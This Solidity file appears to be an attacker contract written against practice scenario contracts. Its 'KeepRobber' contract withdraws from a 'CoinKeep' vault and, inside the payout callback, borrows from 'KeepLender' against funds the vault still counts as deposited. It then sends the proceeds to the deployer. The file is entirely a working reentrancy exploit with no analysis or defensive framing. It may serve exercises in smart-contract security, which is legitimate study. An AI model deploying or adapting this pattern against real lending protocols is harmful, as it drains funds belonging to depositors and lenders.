// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {CoinKeep} from "../scenarios/CoinKeep.sol";
import {KeepLender} from "../scenarios/KeepLender.sol";

/// @title Borrows against what a keep has just paid out, while it still stands in its books.
contract KeepRobber {
    CoinKeep private immutable keep;
    KeepLender private immutable lender;
    address payable private immutable owner = payable(msg.sender);
    bool private leaving;

    constructor(CoinKeep keep_, KeepLender lender_) {
        (keep, lender) = (keep_, lender_);
    }

    function rob() external payable {
        keep.put{value: msg.value}();
        leaving = true;
        keep.leave();
        leaving = false;
        owner.transfer(address(this).balance);
    }

    /// Borrows as anybody may.
    function borrow(uint256 amount) external payable {
        keep.put{value: msg.value}();
        lender.borrow(amount);
        owner.transfer(address(this).balance);
    }

    receive() external payable {
        if (leaving && msg.sender == address(keep)) lender.borrow(msg.value * 8 / 10);
    }
}
